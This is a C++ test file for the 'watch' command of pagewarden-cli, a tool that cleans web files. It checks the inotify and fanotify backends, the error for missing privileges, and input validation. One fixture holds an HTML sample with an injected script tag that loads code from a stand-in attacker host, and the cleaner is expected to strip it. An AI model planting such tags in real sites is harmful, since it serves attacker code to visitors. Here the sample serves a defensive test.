#include "tests/support/RunProgram.h"
#include "tests/support/TempTree.h"
#include "tests/support/WaitFor.h"
#include "watch/FanotifyTree.h"

#include <QProcess>

#include <gtest/gtest.h>

#include <csignal>
#include <unistd.h>

using namespace pw::test;

namespace {

const QByteArray Infected = "<p>x</p>\n<script src=\"http://evilstats.example/a.js\"></script>\n";

// Several trees in one process, through each backend (fanotify where this process may use it).
TEST(WatchCommand, CleansModifiedFilesInEveryTreeUntilStopped) {
    for (const char* backend : {"auto", "inotify", "fanotify"}) {
        SCOPED_TRACE(backend);
        TempTree tree, other;
        if (backend == QByteArray("fanotify") && !pw::FanotifyUnavailable({tree.path()}).isEmpty())
            continue;
        QProcess watch;
        watch.start(QString::fromLocal8Bit(binaryPath("cli/pagewarden-cli")),
                    {"watch", "--backend", backend, QString::fromLocal8Bit(tree.path()),
                     QString::fromLocal8Bit(other.path())});
        ASSERT_TRUE(watch.waitForStarted());
        // Written until the watch has seen them: the watch starts at some point after the process.
        const QByteArray path = tree.path("index.html"), second = other.path("sub/b.htm");
        ASSERT_TRUE(waitWithoutEvents(
            [&] {
                if (readFile(path) == "<p>x</p>\r\n" && readFile(second) == "<p>x</p>\r\n")
                    return true;
                tree.write("index.html", Infected);
                other.write("sub/b.htm", Infected);
                return false;
            },
            20s));
        ::kill(static_cast<pid_t>(watch.processId()), SIGTERM);
        ASSERT_TRUE(watch.waitForFinished(20000));
        EXPECT_EQ(watch.exitStatus(), QProcess::NormalExit);
        EXPECT_EQ(watch.exitCode(), 0);
        const QByteArray out = watch.readAllStandardOutput();
        EXPECT_TRUE(out.contains("文件修改: " + path + "\n")) << out.constData();
        EXPECT_TRUE(out.contains("cleaned\t" + path + "\n")) << out.constData();
        EXPECT_TRUE(out.contains("cleaned\t" + second + "\n")) << out.constData();
    }
}

TEST(WatchCommand, FanotifyForcedWithoutTheRightIsAnError) {
    TempTree tree;
    ASSERT_EQ(::chmod(tree.path().constData(), 0755), 0);
    QProcess watch;
    if (::getuid() == 0)
        watch.setChildProcessModifier([] {
            if (::setgid(65534) != 0 || ::setuid(65534) != 0) ::_exit(99);
        });
    watch.start(QString::fromLocal8Bit(binaryPath("cli/pagewarden-cli")),
                {"watch", "--backend", "fanotify", QString::fromLocal8Bit(tree.path())});
    ASSERT_TRUE(watch.waitForFinished(20000));
    EXPECT_EQ(watch.exitCode(), 2);
    const QByteArray err = watch.readAllStandardError();
    EXPECT_TRUE(err.startsWith("pagewarden-cli: --backend fanotify: fanotify needs CAP_SYS_ADMIN"))
        << err.constData();
}

TEST(WatchCommand, RefusesWhatCannotBeWatched) {
    TempTree tree;
    const QByteArray file = tree.write("a.html", "x");
    EXPECT_EQ(runCli({"watch", "--rule", "(", tree.path()}).exitCode, 2);
    EXPECT_EQ(runCli({"watch", file}).err,
              "pagewarden-cli: " + file + ": not a folder that can be watched\n");
    EXPECT_EQ(runCli({"watch", tree.path("missing")}).exitCode, 2);
    EXPECT_EQ(runCli({"watch"}).exitCode, 2);
    EXPECT_EQ(runCli({"watch", "--backend", "kqueue", tree.path()}).exitCode, 2);
}

} // namespace
